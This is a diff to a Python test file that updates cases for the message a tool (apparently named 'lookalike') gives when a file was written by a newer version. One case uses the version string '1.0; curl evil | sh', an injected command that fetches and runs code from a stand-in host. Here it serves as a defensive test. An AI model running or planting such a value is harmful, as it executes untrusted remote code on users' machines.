@@ -78,9 +78,9 @@ def test_what_a_later_version_adds_to_a_format_is_read_past_and_not_audited(tmp_
 @pytest.mark.parametrize(
     ("format", "version", "said"),
     [
-        (3, "0.9.1", "reads 1 and 2. Version 0.9.1 wrote it: install that or a later one."),
+        (4, "0.9.1", "reads 1, 2 and 3. Version 0.9.1 wrote it: install that or a later one."),
         (7, None, "A newer one wrote it: install the newest lookalike."),
-        (3, "1.0; curl evil | sh", "A newer one wrote it: install the newest lookalike."),
+        (4, "1.0; curl evil | sh", "A newer one wrote it: install the newest lookalike."),
         (0, "0.9.1", "No version writes that: the file is damaged, get it again."),
         ("x" * 999, "0.9.1", "No version writes that"),
     ],
